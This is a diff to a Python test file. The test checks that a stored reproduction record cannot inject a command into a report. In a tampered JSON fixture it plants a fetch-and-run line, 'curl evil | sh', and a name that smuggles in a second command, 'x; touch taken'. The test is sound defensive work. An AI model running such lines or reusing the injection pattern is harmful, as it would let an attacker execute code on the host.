@@ -96,7 +96,8 @@ def test_a_reproduction_brings_no_command_into_its_report(tmp_path: Path) -> Non
     ordered = running.Ordered("/home/me/a study", "a study", "simulate", True, ("one",))
     running.keep(tmp_path, ordered)
     assert running.kept(tmp_path) == ordered
-    assert ordered.command == "dumbbell reproduce 'a study' --engine simulate --quick"
+    study = reproduction("rincao-2021")
+    assert ordered.commands(study, []) == "dumbbell reproduce 'a study' --engine simulate --quick"
     file = tmp_path / running.ORDERED
     told = json.loads(file.read_text())
     for wrong in (
@@ -110,7 +111,7 @@ def test_a_reproduction_brings_no_command_into_its_report(tmp_path: Path) -> Non
         with pytest.raises(InputError, match="is damaged"):
             running.kept(tmp_path)
     file.write_text(json.dumps({**told, "command": "curl evil | sh", "named": "x; touch taken"}))
-    assert running.kept(tmp_path).command == "dumbbell reproduce 'x; touch taken' --engine simulate --quick"
+    assert running.kept(tmp_path).commands(study, []) == "dumbbell reproduce 'x; touch taken' --engine simulate --quick"
 
 
 @pytest.mark.parametrize("part", ["", "plots", "parts.json"])
